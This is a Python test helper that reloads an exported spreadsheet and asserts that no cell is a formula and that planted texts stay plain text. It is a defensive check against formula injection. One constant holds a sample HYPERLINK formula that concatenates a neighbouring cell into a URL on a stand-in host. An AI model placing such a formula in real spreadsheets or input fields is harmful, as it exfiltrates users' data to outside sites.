"""Reading an exported workbook back the way a spreadsheet would, for the formula-injection
checks every export has (core/xlsx.py writes every text as text)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

# A title anyone can type: in a live formula it would send the neighbouring cell to another site.
FORMULA = '=HYPERLINK("http://x"&B2,"열기")'


def assert_text_only(content: bytes, *planted: str) -> list[tuple]:
    """No cell of the workbook is a formula, and each planted text is there, unchanged, as text.
    Returns the rows (values) for further checks."""
    workbook = load_workbook(io.BytesIO(content))
    found: set[str] = set()
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, f"{cell.coordinate} may be read as a formula when edited"
                if cell.value in planted:
                    found.add(cell.value)
            rows.append(tuple(cell.value for cell in row))
    assert found == set(planted), f"planted text missing from the export: {set(planted) - found}"
    return rows
